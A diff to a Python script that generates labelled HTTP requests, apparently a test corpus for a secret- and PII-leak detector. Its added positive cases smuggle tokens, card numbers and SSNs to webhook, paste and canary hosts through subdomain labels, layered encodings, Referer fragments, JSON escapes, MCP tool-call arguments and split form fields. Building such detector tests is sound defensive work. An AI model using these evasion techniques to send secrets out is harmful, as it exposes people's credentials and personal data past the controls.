@@ -486,6 +486,86 @@ for i in range(6):
     if i < 3: add("p-hdr", True, "person-contact", "hdr-custom", ["webhook", "cdn", "registry"][i % 3], "GET", "/track", [("X-User-Contact", v)], cats=["pii"], tags=["arguable"], where="person contact header")
     else: add("p-query", True, "person-contact", "query-value", ["webhook", "analytics", "paste"][i % 3], "GET", "/track?uid=%s&c=%s" % (uuid4(), urllib.parse.quote(v, safe="")), [], cats=["pii"], tags=["arguable"], where="person contact query")
 
+
+# ---- round 2 families (written before the second measurement, kept whatever their outcome)
+# secret as a DNS label of the Host (subdomain exfiltration)
+def b32(v): return base64.b32encode(v.encode()).decode().rstrip("=").lower()
+for i in range(8):
+    k, v, cat = pick(["github-pat", "ssn", "card", "npm-token", "iban", "github-oauth", "uk-nino", "hf-token"], "host")
+    e = ["raw", "hex", "raw", "b32", "raw", "hex", "raw", "b32"][i]
+    lab = v.lower() if e == "raw" and cat != "credential" else (v if e == "raw" else (v.encode().hex() if e == "hex" else b32(v)))
+    labels = ".".join(lab[j:j + 60] for j in range(0, len(lab), 60))
+    host = "%s.t%d.kestrel-canary.net" % (labels, i)
+    add("p-host", True, k, "host", "webhook", "GET", "/p.gif", [("Host", host)], cats=[cat], e=e, host=host, tags=["arguable"] if e != "raw" else [], where="Host subdomain labels")
+# values glued to words (underscore, letters) in paths, filenames and queries
+for i in range(12):
+    k, v, cat = pick(["ssn", "card", "iban", "uk-nino"], "glue")
+    vv = v.replace("-", "") if i % 3 == 1 else v
+    how = ["underscore", "underscore", "letters"][i % 3]
+    name = ("w2_%s_2025.pdf" % vv) if how == "underscore" else ("stmt%sfinal.pdf" % vv)
+    pl = ["url-path", "query-value", "body-multipart", "hdr-custom"][i % 4]
+    if pl == "url-path": add("p-glue", True, k, pl, "s3", "PUT", "/hr/uploads/" + name, [("Content-Type", "application/pdf")], "%PDF-1.7\n", cats=[cat], tags=["glue:" + how], where="glued in path file name")
+    elif pl == "query-value": add("p-glue", True, k, pl, "cdn", "GET", "/preview?file=" + name, [], cats=[cat], tags=["glue:" + how], where="glued in query file name")
+    elif pl == "hdr-custom": add("p-glue", True, k, pl, "s3", "PUT", "/hr/x", [("x-amz-meta-original-name", name)], "%PDF-1.7\n", cats=[cat], tags=["glue:" + how], where="glued in metadata header")
+    else:
+        bd, body = multipart([([("Content-Disposition", 'form-data; name="file"; filename="%s"' % name), ("Content-Type", "application/pdf")], "%PDF-1.7\n")])
+        add("p-glue", True, k, pl, "paste", "POST", "/upload", [("Content-Type", "multipart/form-data; boundary=" + bd)], body, cats=[cat], tags=["glue:" + how], where="glued in multipart filename")
+# more encodings, neutral names
+ENC2 = {"b64-of-b64": lambda v: b64(b64(v)), "b32": lambda v: base64.b32encode(v.encode()).decode(), "hex-upper": lambda v: v.encode().hex().upper(),
+        "pct1-of-b64": lambda v: enc(b64(v), "pct1"), "gzip-b64url": lambda v: b64u(gzip.compress(v.encode(), mtime=0)), "reversed": lambda v: v[::-1]}
+for i in range(18):
+    e = list(ENC2)[i % 6]
+    k, v, cat = pick(["github-pat", "stripe-secret", "ssn", "card", "anthropic-key", "aws-pair", "slack-bot", "iban", "jwt"], "enc2")
+    val = ENC2[e](v)
+    tags = ["arguable"] if e in ("reversed", "b64-of-b64", "b32") else []
+    if i % 2 == 0: add("p-enc", True, k, "query-value", ["webhook", "paste", "cdn"][i % 3], "GET", "/c?d=%s&t=%d" % (urllib.parse.quote(val, safe="%"), R.randint(1, 10**6)), [], cats=[cat], e=e, tags=tags + ["name:neutral"], where="query d")
+    else: add("p-enc", True, k, "hdr-custom", ["webhook", "paste", "cdn"][i % 3], "GET", "/c", [("X-Ctx", val)], cats=[cat], e=e, tags=tags + ["name:neutral"], where="header X-Ctx")
+# Referer with the secret in the fragment (implicit-flow callback) and in X-Original-URL
+for i in range(6):
+    k, v, cat = pick(["jwt", "github-oauth", "ssn", "stripe-secret", "jwt", "card"], "frag")
+    url = "https://app.quillfeather.io/callback#%s=%s&token_type=bearer&state=%s" % ("access_token" if cat == "credential" else "prefill", v, b64u(rbytes(12)))
+    hn = "Referer" if i < 4 else "X-Original-URL"
+    add("p-hdr", True, k, "hdr-referer" if hn == "Referer" else "hdr-custom", "cdn", "GET", "/assets/app.js", [(hn, url)], cats=[cat], tags=["frag"], where=hn + " fragment")
+# JSON \\u escapes in GraphQL variables / MCP arguments / model metadata
+def uesc(v, full): return "".join("\\u%04x" % ord(c) if (full or j < 4) else c for j, c in enumerate(v))
+for i in range(8):
+    k, v, cat = pick(["github-pat", "stripe-secret", "ssn", "card", "anthropic-key", "slack-bot", "iban", "openai-key"], "uesc")
+    full = i % 2 == 0
+    if i % 4 < 2: raw = '{"query":"mutation($v:String!){setNote(v:$v){id}}","variables":{"v":"%s"}}' % uesc(v, full); api = "graphql"; t = "/graphql"
+    else: raw = '{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"notes.txt","content":"%s"}}}' % uesc(v, full); api = "mcp"; t = "/mcp"
+    add("p-body", True, k, "body-graphql" if api == "graphql" else "body-mcp", api, "POST", t, [("Content-Type", "application/json")], raw, cats=[cat], e="json-uescape-" + ("all" if full else "prefix"), where="json string with \\u escapes")
+# Proxy-Authorization Basic, and a very long header with the secret at its end
+for i in range(3):
+    add("p-hdr", True, "basic-auth", "hdr-auth-basic", "registry", "GET", "http://pypi.kestrel-robotics.com/simple/atlas/", [("Proxy-Authorization", "Basic " + b64("svc-build:%s" % password()))], cats=["credential"], e="b64", host="pypi.kestrel-robotics.com", absolute=True, tags=["proxy-auth"], where="Proxy-Authorization")
+for i in range(4):
+    k, v, cat = pick(["github-pat", "ssn", "stripe-secret", "card"], "longh")
+    add("p-hdr", True, k, "hdr-custom", ["webhook", "cdn"][i % 2], "GET", "/x", [("X-State", ",".join(hexs(32) for _ in range(R.choice([250, 500]))) + "," + v)], cats=[cat], tags=["long-header", "name:neutral"], where="end of a 8-16 KB header")
+# nested / array query names
+for i in range(5):
+    k, v, cat = pick(["github-pat", "stripe-secret", "ssn", "card", "slack-bot"], "nest")
+    qn = ["filter[api_key]", "data[0][v]", "cfg.token", "opts%5Bsecret%5D", "items[]"][i]
+    add("p-query", True, k, "query-value", ["webhook", "paste", "cdn"][i % 3], "GET", "/api?%s=%s&page=1" % (qn, urllib.parse.quote(v, safe="")), [], cats=[cat], tags=["query:nested", nametag(qn)], where="query " + qn)
+# multipart part bodies in quoted-printable, with a soft line break inside the value
+for i in range(4):
+    k, v, cat = pick(["github-pat", "anthropic-key", "stripe-secret", "openai-key"], "qp")
+    text = "TOKEN=" + v + "\n"
+    qp = "".join(c if c not in "=" else "=3D" for c in text)
+    cut = 30
+    qp = qp[:cut] + "=\r\n" + qp[cut:]
+    bd, body = multipart([([("Content-Disposition", 'form-data; name="file"; filename="ci.env"'), ("Content-Type", "text/plain"), ("Content-Transfer-Encoding", "quoted-printable")], qp)])
+    add("p-body", True, k, "body-multipart", ["paste", "webhook"][i % 2], "POST", "/upload", [("Content-Type", "multipart/form-data; boundary=" + bd)], body, cats=[cat], e="qp", tags=["mp:file-qp"], where="quoted-printable part with soft break")
+# cards and SSNs with separators / without format in URLs
+for i in range(8):
+    how = ["card-dash", "card-space", "card-dot", "ssn-bare-labelled", "ssn-bare-unlabelled", "card-bare-unlabelled", "ssn-space", "iban-spaced"][i]
+    if how.startswith("card"): c = card("visa" if i % 2 else "mc"); val = {"card-dash": "-".join(c[j:j + 4] for j in range(0, 16, 4)), "card-space": " ".join(c[j:j + 4] for j in range(0, 16, 4)), "card-dot": ".".join(c[j:j + 4] for j in range(0, 16, 4)), "card-bare-unlabelled": c}[how]; cat = "financial"; qn = "pan" if how != "card-bare-unlabelled" else "v"
+    elif how == "iban-spaced": x = iban("DE"); val = " ".join(x[j:j + 4] for j in range(0, len(x), 4)); cat = "financial"; qn = "iban"
+    else: x = ssn(); val = x.replace("-", "") if "bare" in how else x.replace("-", " "); cat = "pii"; qn = "ssn" if how != "ssn-bare-unlabelled" else "v"
+    add("p-query", True, how.split("-")[0], "query-value", ["webhook", "cdn", "paste"][i % 3], "GET", "/f?%s=%s&ok=1" % (qn, urllib.parse.quote(val, safe="")), [], cats=[cat], tags=["fmt:" + how] + (["arguable"] if "unlabelled" in how else []), where="query " + qn)
+# a password split over repeated form fields (arguable)
+for i in range(3):
+    k, v, cat = pick(["github-pat", "stripe-secret", "anthropic-key"], "rep")
+    c = len(v) // 2
+    add("p-body", True, k, "body-form", "webhook", "POST", "/f", [("Content-Type", "application/x-www-form-urlencoded")], "k=%s&k=%s&go=1" % (v[:c], v[c:]), cats=[cat], e="split", tags=["arguable"], where="repeated form field halves")
 NPOS = len(CASES)
 # =================================================================== NEGATIVES
 def neg(cls, place, api, method, target, headers, body=b"", e="raw", tags=(), host=None, absolute=False):
@@ -718,6 +798,30 @@ for i in range(24):
     elif how == 9: neg("misc", "hdr-if-none-match", "docker", "HEAD", "/v2/library/node/manifests/20-alpine", [("If-None-Match", '"sha256:%s"' % hexs(64)), ("Docker-Content-Digest", "sha256:" + hexs(64))], tags=["sub:docker-etag"])
     elif how == 10: neg("misc", "body-oauth", "oauth", "POST", "/oauth/authorize/callback", [("Content-Type", "application/x-www-form-urlencoded")], "state=%s&code_challenge=%s&code_challenge_method=S256&prompt=consent" % (b64u(rbytes(24)), b64u(rbytes(32))), tags=["sub:pkce-form"])
     else: neg("misc", "body-graphql", "graphql", "POST", "/graphql", [("Content-Type", "application/json")], json.dumps({"query": "query($id:ID!){node(id:$id){... on Commit{oid message}}}", "variables": {"id": b64("Commit:%s" % hexs(40))}}), tags=["sub:relay-id"])
+
+
+# ---- round 2 negatives
+for i in range(10):
+    host = ["atlas-git-feat-route-%s-kestrel.vercel.app" % rs(9, string.ascii_lowercase + string.digits), "d%s.cloudfront.net" % rs(13, string.ascii_lowercase + string.digits),
+            "pub-%s.r2.dev" % hexs(32), "%s.ngrok-free.app" % uuid4(), "pr-%d--kestrel-docs.netlify.app" % R.randint(100, 9999), "%s.lambda-url.us-east-1.on.aws" % rs(32, string.ascii_lowercase + string.digits),
+            "kestrel-%s.s3.eu-west-1.amazonaws.com" % hexs(12), "%s-dot-kestrel-prod.appspot.com" % hexs(8), "%s.execute-api.eu-west-1.amazonaws.com" % rs(10, string.ascii_lowercase + string.digits), "%s.supabase.co" % rs(20, string.ascii_lowercase)][i]
+    neg("host", "host", "cdn", "GET", "/", [("Host", host)], host=host)
+for i in range(10):
+    nm = ["invoice_20261207_000123.pdf", "IMG_20261207_101500.jpg", "scan_%d.pdf" % R.randint(1733000000000, 1800000000000), "export_%s.csv" % uuid4(), "build_%s.tar.gz" % hexs(40),
+          "report_%d-%02d-%02d_v%d.xlsx" % (2026, R.randint(1, 12), R.randint(1, 28), R.randint(2, 9)), "order_%s.json" % luhn_fail("4", 16), "PXL_20261207_%09d.mp4" % R.randint(10**8, 10**9),
+          "shipment_1Z%s%s.pdf" % (rs(6, UPP + string.digits), rs(10, string.digits)), "ticket_%d_%d.txt" % (R.randint(10**5, 10**6), R.randint(10**9, 10**10))][i]
+    if i % 2: neg("glue", "url-path", "s3", "PUT", "/uploads/" + nm, [("Content-Type", "application/octet-stream")], "x" * 32)
+    else:
+        bd, body = multipart([([("Content-Disposition", 'form-data; name="file"; filename="%s"' % nm), ("Content-Type", "application/octet-stream")], "x" * 32)])
+        neg("glue", "body-multipart", "registry", "POST", "/upload", [("Content-Type", "multipart/form-data; boundary=" + bd)], body)
+for i in range(6):
+    txt = ["Caf\u00e9 menu: cr\u00e8me br\u00fbl\u00e9e", "\u65e5\u672c\u8a9e\u306e\u30c6\u30b9\u30c8", "build 4532-0151-1283-0367 failed", "ETA 2026-12-09", "r\u00e9sum\u00e9 draft v3", "Grad \u00b0C 21.5"][i]
+    raw = '{"query":"mutation($v:String!){setNote(v:$v){id}}","variables":{"v":"%s"}}' % "".join("\\u%04x" % ord(c) for c in txt)
+    neg("uesc", "body-graphql", "graphql", "POST", "/graphql", [("Content-Type", "application/json")], raw, e="json-uescape-all")
+for i in range(6):
+    v = luhn_fail(R.choice("45"), 16)
+    val = ["-".join(v[j:j + 4] for j in range(0, 16, 4)), " ".join(v[j:j + 4] for j in range(0, 16, 4)), v, "%s-%s" % (rs(3, string.digits), rs(7, string.digits)), "%d %d %d" % (R.randint(100, 999), R.randint(10, 99), R.randint(1000, 9999)), "GB%02d%s" % (R.randint(10, 99), rs(4, UPP) + rs(14, string.digits))][i]
+    neg("numbers", "query-value", "cdn", "GET", "/f?%s=%s" % (["ref", "ref", "order", "po", "code", "acct_ref"][i], urllib.parse.quote(val)), [], tags=["sub:" + ["luhn-fail-dash", "luhn-fail-space", "luhn-fail", "po", "code3", "bad-iban-gb"][i]])
 
 with open(OUT, "w", encoding="utf-8") as f:
     for c in CASES: f.write(json.dumps(c, ensure_ascii=False) + "\n")
